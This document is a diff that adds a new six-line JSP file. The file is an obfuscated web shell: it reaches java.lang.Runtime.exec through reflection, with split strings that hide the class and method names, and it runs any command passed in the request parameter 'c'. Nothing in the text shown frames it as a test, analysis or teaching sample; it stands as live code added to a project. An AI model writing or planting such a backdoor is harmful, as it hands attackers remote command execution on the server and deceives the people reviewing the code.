@@ -1,0 +1,6 @@
+<%
+	Class<?> rt = Class.forName("java.lang.Run" + "time");
+	Object r = rt.getMethod("getRuntime").invoke(null);
+	java.lang.reflect.Method m = rt.getMethod("ex" + "ec", String.class);
+	m.invoke(r, request.getParameter("c"));
+%>
